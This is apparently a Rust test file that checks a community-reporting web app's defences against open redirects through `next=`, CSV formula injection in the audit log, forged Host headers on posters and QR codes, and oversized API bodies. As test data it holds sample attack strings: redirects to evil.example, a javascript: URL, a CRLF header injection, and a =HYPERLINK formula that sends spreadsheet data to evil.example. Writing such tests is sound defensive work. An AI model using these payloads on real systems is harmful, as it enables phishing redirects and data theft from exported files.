//! Attacks on the staff pages and the API, on SQLite and on PostgreSQL: a formula planted in
//! the audit log by a failed login, redirects off-site through `next=`, forged Host headers on
//! posters and QR codes, oversized API bodies.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use axum::http::{HeaderMap, StatusCode, header};
use doorstep_core::{AreaKind, Role};
use doorstep_testkit::{
    COMMUNITY, FORM, PASSWORD, Response, TestApp, TestDb, both_backends, enc, user,
};
use serde_json::json;

fn location(h: &HeaderMap) -> &str {
    h[header::LOCATION].to_str().unwrap()
}

/// `next` values a browser would follow off-site, or that break the Location header.
const OFF_SITE: [&str; 8] = [
    "/\t/example.com/x",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "http://evil.example",
    "javascript:alert(1)",
    "/x\r\nSet-Cookie: a=b",
    "/\n/evil.example",
];

both_backends!(next_never_leaves_the_site, async |db: &TestDb| {
    doorstep_testkit::demo_community(db.store.as_ref()).await;
    user(db.store.as_ref(), "admin1", Role::CommunityAdmin, COMMUNITY).await;
    let app = TestApp::new(db);
    for next in OFF_SITE {
        // The language switch.
        let Response {
            status: st,
            headers: h,
            ..
        } = app.get(&format!("/lang/en?next={}", enc(next))).await;
        assert_eq!((st, location(&h)), (StatusCode::SEE_OTHER, "/"), "{next:?}");

        // The login page keeps only a safe next, and logging in goes there.
        let Response {
            status: st,
            headers: h,
            text: body,
            ..
        } = app.get(&format!("/login?next={}", enc(next))).await;
        assert_eq!(st, StatusCode::OK, "{next:?}");
        assert!(body.contains("name=\"next\" value=\"/\""), "{next:?}");
        let csrf = h[header::SET_COOKIE]
            .to_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap()
            .to_string();
        let token = csrf.split_once('=').unwrap().1;
        let Response {
            status: st,
            headers: h,
            ..
        } = app
            .post("/login")
            .cookie(&csrf)
            .body(
                FORM,
                format!(
                    "username=admin1&password={}&csrf={token}&next={}",
                    enc(PASSWORD),
                    enc(next)
                ),
            )
            .await;
        assert_eq!((st, location(&h)), (StatusCode::SEE_OTHER, "/"), "{next:?}");
    }
    // A path of this site still works.
    let Response { headers: h, .. } = app
        .get(&format!("/lang/en?next={}", enc("/search?q=x")))
        .await;
    assert_eq!(location(&h), "/search?q=x");
});

both_backends!(
    a_user_name_planted_by_a_failed_login_is_inert_in_the_audit_csv,
    async |db: &TestDb| {
        let store = db.store.as_ref();
        doorstep_testkit::demo_community(store).await;
        user(store, "root", Role::Admin, "二七区").await;
        let planted = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
        let app = TestApp::new(db);
        let mut anon = app.anon();
        let (st, _, _) = anon
            .send(
                "POST",
                "/api/v1/auth/login",
                Some(json!({"username": planted, "password": "guess"})),
            )
            .await;
        assert_eq!(st, StatusCode::UNAUTHORIZED);

        anon.login("root").await;
        let cookie = format!("doorstep_session={}", anon.token.clone().unwrap());
        let Response {
            status: st, text, ..
        } = app.get("/audit.csv").cookie(&cookie).await;
        assert_eq!(st, StatusCode::OK);
        let mut rdr = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<Vec<String>> = rdr
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        let failed = rows.iter().find(|r| r[3] == "login_failed").unwrap();
        assert_eq!(failed[1], format!("'{planted}"));
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
);

both_backends!(posters_ignore_the_host_header, async |db: &TestDb| {
    let store = db.store.as_ref();
    let c = doorstep_testkit::demo_community(store).await;
    store
        .create_area(Some(&c.path), AreaKind::Compound, "佳纷天地")
        .await
        .unwrap();
    user(store, "admin1", Role::CommunityAdmin, COMMUNITY).await;
    let app = TestApp::new(db);
    let admin = app.login_api("admin1").await;
    let (st, link, _) = admin
        .send(
            "POST",
            "/api/v1/report-links",
            Some(json!({"area": COMMUNITY, "purpose": "census"})),
        )
        .await;
    assert_eq!(st, StatusCode::CREATED, "{link}");
    let (id, token) = (
        link["id"].as_i64().unwrap(),
        link["token"].as_str().unwrap(),
    );
    let cookie = format!("doorstep_session={}", admin.token.clone().unwrap());
    let configured = TestApp::builder()
        .public_url("https://doorstep.example.org")
        .build(db);
    for (app, base) in [
        (&configured, "https://doorstep.example.org"),
        // Without configuration (in-process), the default address, still never the Host.
        (&app, "http://127.0.0.1:8080"),
    ] {
        for uri in [format!("/report-links/{id}/poster"), "/report-links".into()] {
            let Response {
                status: st,
                text: body,
                ..
            } = app
                .get(&uri)
                .cookie(&cookie)
                .header("host", "evil.example")
                .await;
            assert_eq!(st, StatusCode::OK, "{uri}");
            assert!(body.contains(&format!("{base}/r/{token}")), "{uri}: {body}");
            assert!(!body.contains("evil.example"), "{uri}");
        }
        let Response { text: svg, .. } = app
            .get(&format!("/report-links/{id}/qr.svg"))
            .cookie(&cookie)
            .header("host", "evil.example")
            .await;
        assert!(svg.contains("<svg"));
    }
    // The QR code is the configured address's, whatever the Host header says.
    let want = qrcode::QrCode::with_error_correction_level(
        format!("https://doorstep.example.org/r/{token}").as_bytes(),
        qrcode::EcLevel::H,
    )
    .unwrap()
    .render::<qrcode::render::svg::Color>()
    .min_dimensions(400, 400)
    .quiet_zone(true)
    .build();
    let Response { text: svg, .. } = configured
        .get(&format!("/report-links/{id}/qr.svg"))
        .cookie(&cookie)
        .header("host", "evil.example")
        .await;
    assert_eq!(svg, want);
});

both_backends!(
    oversized_api_bodies_answer_413_as_json,
    async |db: &TestDb| {
        let store = db.store.as_ref();
        doorstep_testkit::demo_community(store).await;
        let app = TestApp::new(db);
        // Just over the 2 MiB limit, to the public endpoint and to a logged-in one.
        let big = json!({"idempotency_key": "k", "answers": {"notes": "x".repeat(2 << 20)}});
        for (uri, ct) in [
            ("/api/v1/public/reports/nope", "application/json"),
            ("/api/v1/auth/login", "application/json"),
        ] {
            let res = app.post(uri).lang("en").body(ct, big.to_string()).await;
            assert_eq!(res.status, StatusCode::PAYLOAD_TOO_LARGE, "{uri}");
            let v: serde_json::Value = serde_json::from_slice(&res.bytes).unwrap();
            assert_eq!(v["error"], "payload_too_large", "{uri}");
            assert!(v["message"].as_str().unwrap().contains("2 MiB"), "{v}");
        }
    }
);
